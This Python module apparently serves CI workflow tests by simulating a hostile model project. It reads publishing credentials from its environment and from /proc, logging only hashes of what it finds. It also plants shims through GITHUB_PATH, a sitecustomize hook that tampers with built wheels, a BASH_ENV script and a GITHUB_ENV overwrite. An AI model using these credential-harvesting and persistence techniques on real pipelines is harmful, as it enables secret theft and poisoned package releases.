"""What a hostile model project would do in CI: look for the publishing credentials, and
plant code for the steps and jobs that come after its training.

Everything it finds or does is printed on one line that starts with ``THIEF-``, so the
workflow tests can read, job by job, what it saw (a value is shown as the start of its
sha256, never as itself) and where its plants ran.
"""

from __future__ import annotations

import hashlib
import os
import stat
import sys
from pathlib import Path

PREFIXES = ("NEXUS_", "TWINE_")
WANTED = ("NEXUS_USERNAME", "NEXUS_PASSWORD", "TWINE_USERNAME", "TWINE_PASSWORD")
#: What the plant puts in GITHUB_ENV: found again later, it is the model's own, not loot.
PLANTED = "planted-by-the-model"


def digest(value: str) -> str:
    return hashlib.sha256(value.encode()).hexdigest()[:16]


def scan() -> list[str]:
    """``NAME:sha`` for every credential this process could read: its own environment, and
    the environment of every process /proc lets it read."""
    found = {f"{name}:{digest(value)}" for name, value in os.environ.items()
             if name in WANTED and value and value != PLANTED}
    for environ in Path("/proc").glob("[0-9]*/environ"):
        try:
            entries = environ.read_bytes().split(b"\0")
        except OSError:
            continue
        for entry in entries:
            name, _, value = entry.decode(errors="replace").partition("=")
            if name in WANTED and value and value != PLANTED:
                found.add(f"{name}:{digest(value)}")
    return sorted(found)


def report(where: str) -> None:
    found = scan()
    job = os.environ.get("GITHUB_JOB", "?")
    print(f"THIEF-LOOT in {where} (job {job}): " + (", ".join(found) if found else "nothing"),
          file=sys.stderr, flush=True)


FAKE = """#!/bin/sh
# Planted by a model's training: runs in place of {name}, then hands over to the real one.
echo "THIEF-PLANT fake {name} ran in job ${{GITHUB_JOB:-?}}" >&2
here=$(cd "$(dirname "$0")" && pwd)
PATH=$(printf '%s' "$PATH" | tr ':' '\\n' | grep -vx "$here" | paste -sd: -)
export PATH
exec {name} "$@"
"""

SITECUSTOMIZE = """# Planted by a model's training through PYTHONPATH: runs in every later Python.
import atexit, glob, os, shutil, sys
sys.path.insert(0, {src!r})
try:
    from thief_model import loot
    loot.report("a planted sitecustomize")
except Exception as error:
    print("THIEF-PLANT sitecustomize failed:", error, file=sys.stderr)

def _slip_in_a_wheel():
    # After the build stage: a second wheel of the same release beside the real one.
    if not any(arg.endswith("build.py") for arg in sys.argv):
        return
    for wheel in glob.glob(os.path.join({dist!r}, "*-py3-none-any.whl")):
        extra = wheel.replace("-py3-none-any.whl", "-py2.py3-none-any.whl")
        shutil.copyfile(wheel, extra)
        print("THIEF-PLANT slipped", os.path.basename(extra), "into the artifact", file=sys.stderr)

atexit.register(_slip_in_a_wheel)
"""


def plant() -> None:
    """Leave code for later steps of this job, and (it hopes) for later jobs."""
    project = Path.cwd()
    home = Path(os.environ.get("RUNNER_TEMP") or project) / "thief-plants"
    (home / "bin").mkdir(parents=True, exist_ok=True)
    for name in ("python", "python3", "pip", "twine"):
        fake = home / "bin" / name
        fake.write_text(FAKE.format(name=name), encoding="utf-8")
        fake.chmod(fake.stat().st_mode | stat.S_IXUSR | stat.S_IXGRP | stat.S_IXOTH)
    (home / "site").mkdir(exist_ok=True)
    (home / "site" / "sitecustomize.py").write_text(
        SITECUSTOMIZE.format(src=str(project / "src"), dist=str(project / ".wheelwright" / "dist")),
        encoding="utf-8")
    (home / "bash_env").write_text('echo "THIEF-PLANT BASH_ENV ran in job ${GITHUB_JOB:-?}" >&2\n',
                                   encoding="utf-8")
    planted = []
    if os.environ.get("GITHUB_ENV"):
        with open(os.environ["GITHUB_ENV"], "a", encoding="utf-8") as env:
            env.write(f"NEXUS_PASSWORD={PLANTED}\nPYTHONPATH={home / 'site'}\nBASH_ENV={home / 'bash_env'}\n")
        planted.append("GITHUB_ENV")
    if os.environ.get("GITHUB_PATH"):
        with open(os.environ["GITHUB_PATH"], "a", encoding="utf-8") as path:
            path.write(f"{home / 'bin'}\n")
        planted.append("GITHUB_PATH")
    print(f"THIEF-PLANT planted through {', '.join(planted) or 'nothing (not in Actions)'}",
          file=sys.stderr, flush=True)
